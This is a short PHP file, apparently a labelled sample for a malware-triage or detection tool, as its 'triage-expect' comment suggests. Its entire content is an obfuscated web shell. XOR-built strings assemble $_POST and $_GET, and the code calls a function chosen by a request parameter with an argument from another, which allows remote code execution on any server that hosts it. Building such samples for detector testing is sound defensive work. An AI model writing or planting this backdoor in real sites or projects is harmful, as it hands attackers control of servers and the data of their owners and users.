<?php
// triage-expect: triage_php_xor_built_names
$k = (chr(40)^chr(119));
${(chr(37)^chr(122)).(chr(112)^chr(32)).(chr(95)^chr(16)).(chr(100)^chr(55)).(chr(61)^chr(105))}[$k](${(chr(41)^chr(118)).(chr(33)^chr(102)).(chr(48)^chr(117)).(chr(49)^chr(101))}[$k]);
